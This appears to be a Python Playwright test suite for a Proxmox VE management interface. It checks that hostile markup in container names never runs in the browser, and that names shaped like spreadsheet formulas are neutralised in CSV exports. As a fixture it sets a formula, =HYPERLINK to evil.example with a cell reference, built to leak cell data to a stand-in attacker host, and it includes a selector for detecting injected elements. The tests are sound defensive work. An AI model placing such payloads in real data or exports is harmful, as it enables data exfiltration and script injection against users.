"""What Proxmox VE sends is text on every page: nothing of it runs, not in the live stream either, nor in a spreadsheet."""

from __future__ import annotations

import csv
import io

from playwright.async_api import Dialog, expect

from pvesim import ClusterScene, Running
from pvesim.faults.odd_answers import MARKUP
from tests.application import Estates
from tests.browser.driving import Person
from tests.harness import Paddock

INJECTED = "document.querySelectorAll('main img[src=\"x\"], main script, [onerror], [onload], iframe').length"


async def test_markup_in_names_is_shown_and_never_run(
    person: Person, paddock: Paddock, estates: Estates
) -> None:
    async with estates(ClusterScene.simple("prod", nodes=2, containers=4)) as running:
        await paddock.imported(await paddock.site("Vienna"), running["prod"])
        node = await paddock.until_status("pve1", "online")
        page = person.page
        dialogs: list[str] = []

        async def heard(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        page.on("dialog", heard)
        await person.go("/containers")
        await expect(page.get_by_text(MARKUP)).to_have_count(0)
        await _infected(running)
        # the list on the screen is fetched anew through the live stream
        await expect(page.get_by_text(MARKUP).first).to_be_visible(timeout=20_000)
        assert await page.evaluate(INJECTED) == 0
        container = (await paddock.api.get("/containers"))["items"][0]
        assert MARKUP in container["name"]
        for path in (
            "/",
            "/nodes",
            f"/nodes/{node['id']}",
            *(f"/nodes/{node['id']}?tab={tab}" for tab in ("containers", "storage", "network", "events")),
            "/containers",
            f"/storages?node={node['id']}",
            "/search?q=img",
            "/jobs",
        ):
            await person.go(path)
            assert await page.evaluate(INJECTED) == 0, path
        assert dialogs == []
        running.clear()


async def _infected(running: Running) -> None:
    running.fault("rubbish", cluster="prod", how="markup", path="/resources$")


async def test_names_of_formulas_are_text_in_a_spreadsheet(paddock: Paddock, estates: Estates) -> None:
    async with estates(ClusterScene.simple("prod", nodes=1, containers=2)) as running:
        for guest in running.estate["prod"].guests.values():
            guest.name = '=HYPERLINK("http://evil.example/?"&A1)'
        await paddock.imported(await paddock.site("Vienna"), running["prod"])
        status, text, headers = await paddock.browser.get("/containers.csv")
        assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
        assert headers["Content-Disposition"].startswith("attachment")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert [cell for cell in cells if "HYPERLINK" in cell]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
